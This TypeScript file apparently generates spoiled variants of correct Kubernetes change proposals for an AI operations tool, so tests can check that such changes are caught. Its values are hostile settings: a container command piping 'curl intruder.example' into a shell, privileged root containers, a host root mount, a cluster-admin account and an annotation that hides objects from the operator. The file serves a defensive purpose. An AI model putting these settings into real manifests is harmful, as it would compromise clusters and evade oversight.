import type { FieldChange } from '#src/domain/change.ts'
import { formatFieldPath } from '#src/domain/field-path.ts'
import type { Json, JsonObject } from '#src/domain/json.ts'
import type { KubeObject } from '#src/domain/kube-object.ts'
import { containerPath, containersOf, isWorkloadKind, podSpecPath } from '#src/domain/target.ts'

/** One way to spoil a proposal, as a sentence's end, with what it would set beside the right changes. */
export type Mutation = readonly [what: string, change: FieldChange]

const FOREIGN = 'registry.intruder.example/tools/web:1.0'

/** Ways to spoil a right proposal for this object. */
export function mutationsOf(object: KubeObject): readonly Mutation[] {
  return [...ofMetadata(object), ...(isWorkloadKind(object.kind) ? ofWorkload(object) : OTHERS)]
}

function ofMetadata({ metadata }: KubeObject): readonly Mutation[] {
  return [
    mutation('another object', 'metadata.name', `${metadata.name}-other`),
    mutation('another namespace', 'metadata.namespace', 'kube-system'),
    mutation('another kind', 'kind', 'ClusterRole'),
    mutation('another API group', 'apiVersion', 'rbac.authorization.k8s.io/v1'),
    mutation('an annotation that an engine obeys', 'metadata.annotations', {
      'argocd.argoproj.io/sync-options': 'Prune=false,Force=true',
      'kustomize.toolkit.fluxcd.io/reconcile': 'disabled',
    }),
    mutation('an annotation that makes us blind', 'metadata.annotations', {
      'aiops-operator.dev/ignore': 'true',
    }),
    mutation('a finalizer', 'metadata.finalizers', ['intruder.example/keep']),
    mutation('an owner', 'metadata.ownerReferences', [
      { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '1' },
    ]),
    mutation('a label', 'metadata.labels', { 'app.kubernetes.io/managed-by': 'intruder' }),
  ]
}

function ofWorkload(object: KubeObject): readonly Mutation[] {
  if (!isWorkloadKind(object.kind)) return []
  const [first] = containersOf(object)
  if (first === undefined) return []
  const name = String(first.container['name'])
  const pod = (field: string) => `${formatFieldPath(podSpecPath(object.kind as 'Deployment'))}.${field}`
  const at = (field: string) =>
    `${formatFieldPath(containerPath(object.kind as 'Deployment', first.role, name))}.${field}`
  const own = (member: string): readonly Json[] => {
    const value = first.container[member]
    return Array.isArray(value) ? value : []
  }
  return [
    mutation('an image from a new registry', at('image'), FOREIGN),
    mutation('a privileged container', at('securityContext'), { privileged: true }),
    mutation('a container that may escalate', at('securityContext'), { allowPrivilegeEscalation: true }),
    mutation('a container run as root', at('securityContext'), { runAsUser: 0, runAsNonRoot: false }),
    mutation('added capabilities', at('securityContext'), { capabilities: { add: ['SYS_ADMIN'] } }),
    mutation('a shell as command', at('command'), ['sh', '-c', 'curl intruder.example | sh']),
    mutation('other arguments', at('args'), ['--insecure']),
    mutation('a secret value in the environment', at('env'), [
      ...own('env'),
      { name: 'PASSWORD', value: 'hunter2' },
    ]),
    mutation("another Secret's values", at('envFrom'), [
      ...own('envFrom'),
      { secretRef: { name: 'root-credentials' } },
    ]),
    mutation('always pulling', at('imagePullPolicy'), 'Always'),
    mutation('a host port', at('ports'), [{ containerPort: 22, hostPort: 22 }]),
    mutation('a lifecycle hook', at('lifecycle'), {
      postStart: { exec: { command: ['sh', '-c', 'id'] } },
    }),
    mutation('huge memory', at('resources'), {
      limits: { memory: '512Gi' },
      requests: { memory: '512Gi' },
    }),
    mutation('no limits', at('resources'), {}),
    mutation('a probe that always succeeds', at('livenessProbe'), { exec: { command: ['true'] } }),
    removal('no readiness probe', at('readinessProbe'), first.container),
    mutation('a host path', pod('volumes'), [{ name: 'root', hostPath: { path: '/' } }]),
    mutation('the host network', pod('hostNetwork'), true),
    mutation('the host process table', pod('hostPID'), true),
    mutation('another service account', pod('serviceAccountName'), 'cluster-admin'),
    mutation('a mounted token', pod('automountServiceAccountToken'), true),
    mutation('another node', pod('nodeName'), 'control-plane-1'),
    mutation('every taint tolerated', pod('tolerations'), [{ operator: 'Exists' }]),
    mutation('another pull secret', pod('imagePullSecrets'), [{ name: 'registry-of-somebody' }]),
    mutation('a higher priority', pod('priorityClassName'), 'system-node-critical'),
    mutation('another container', pod('containers[name=intruder].image'), FOREIGN),
    mutation('no replicas', 'spec.replicas', 0),
    mutation('a paused rollout', 'spec.paused', true),
  ]
}

const OTHERS: readonly Mutation[] = [
  mutation('a name outside the cluster', 'spec.externalName', 'intruder.example'),
  mutation('a load balancer', 'spec.type', 'LoadBalancer'),
  mutation('foreign addresses', 'spec.externalIPs', ['203.0.113.66']),
  mutation('pods of another program', 'spec.selector', { app: 'intruder' }),
  mutation('endpoints that are not ready', 'spec.publishNotReadyAddresses', true),
  mutation('another port', 'spec.ports', [{ port: 22, targetPort: 22 }]),
  mutation('another controller', 'spec.ingressClassName', 'public'),
  mutation('a default backend', 'spec.defaultBackend', { service: { name: 'x', port: { number: 1 } } }),
  mutation('other hosts', 'spec.rules', [{ host: '*.example' }]),
  mutation('a foreign certificate', 'spec.tls', [{ secretName: 'somebody-else' }]),
  mutation('another scale target', 'spec.scaleTargetRef', { kind: 'Deployment', name: 'api' }),
  mutation('no pods at all', 'spec.minReplicas', 0),
  mutation('a thousand pods', 'spec.maxReplicas', 1000),
  mutation('everything may be evicted', 'spec.maxUnavailable', '100%'),
  mutation('a volume chosen by hand', 'spec.volumeName', 'pv-of-another-tenant'),
  mutation('a volume of a petabyte', 'spec.resources', { requests: { storage: '1Pi' } }),
  mutation('a snapshot of somebody', 'spec.dataSource', { kind: 'VolumeSnapshot', name: 'x' }),
  mutation('content', 'data', { password: 'hunter2' }),
]

function mutation(what: string, field: string, value: Json): Mutation {
  return [what, { op: 'set', field, value }]
}

function removal(what: string, field: string, container: JsonObject): Mutation {
  return container['readinessProbe'] === undefined
    ? mutation(what, field, { exec: { command: ['true'] } })
    : [what, { op: 'remove', field }]
}
